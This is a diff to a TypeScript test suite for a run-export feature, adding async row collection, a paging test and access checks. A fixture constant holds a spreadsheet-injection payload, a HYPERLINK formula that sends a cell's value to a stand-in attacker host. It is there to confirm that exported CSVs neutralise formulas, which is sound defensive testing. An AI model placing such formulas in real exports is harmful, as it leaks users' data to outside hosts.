@@ -12,6 +12,12 @@ import { getRunExport, runExportColumns } from './run-export.ts';
 
 const HOSTILE_COMMENT = '=HYPERLINK("http://evil.example/?"&A1,"Klik")';
 
+async function collect<T>(rows: AsyncIterable<T>): Promise<T[]> {
+  const all: T[] = [];
+  for await (const row of rows) all.push(row);
+  return all;
+}
+
 describeEachDatabase('run export', (store) => {
   const db = () => store().db;
 
@@ -31,7 +37,7 @@ describeEachDatabase('run export', (store) => {
   it('gives one line per participant and meeting, with what the participants page shows', async () => {
     const { teacher, run } = await setUp();
     const { rows } = await getRunExport(db(), actorOf(teacher), run.id);
-    const lines = [...rows];
+    const lines = await collect(rows);
     expect(lines.map((l) => [l.name, l.meetingStartsAt, l.attendance, l.points])).toEqual([
       ['@Bob', '2026-03-29T07:00:00.000Z', null, null],
       ['@Bob', run.meetings[1]!.starts_at, null, null],
@@ -44,13 +50,21 @@ describeEachDatabase('run export', (store) => {
     expect(lines[3]).toMatchObject({ status: 'enrolled', effort: 'good', effortComment: HOSTILE_COMMENT });
   });
 
+  it('reads the attendance a page of participants at a time and places each record on its own line', async () => {
+    const { teacher, run } = await setUp();
+    const whole = await collect((await getRunExport(db(), actorOf(teacher), run.id)).rows);
+    const paged = await collect((await getRunExport(db(), actorOf(teacher), run.id, { pageSize: 1 })).rows);
+    expect(paged).toEqual(whole);
+    expect(paged.filter((l) => l.attendance === 'present').map((l) => [l.name, l.meetingStartsAt])).toEqual([['Ann Αλέξανδρος', '2026-03-29T07:00:00.000Z']]);
+  });
+
   it('is only for the run’s teachers and administrators', async () => {
     const { run, ann } = await setUp();
     const other = await makeUser(db(), ['teacher']);
     await expect(getRunExport(db(), actorOf(other), run.id)).rejects.toBeInstanceOf(NotFoundOrNoAccess);
     await expect(getRunExport(db(), actorOf({ id: ann.id, roles: ['participant'] }), run.id)).rejects.toBeInstanceOf(NotFoundOrNoAccess);
     const admin = await makeUser(db(), ['admin']);
-    expect([...(await getRunExport(db(), actorOf(admin), run.id)).rows]).toHaveLength(6);
+    expect(await collect((await getRunExport(db(), actorOf(admin), run.id)).rows)).toHaveLength(6);
   });
 
   it('downloads as CSV (BOM, ";", labels in Dutch, formulas neutralised) and as typed XLSX', async () => {
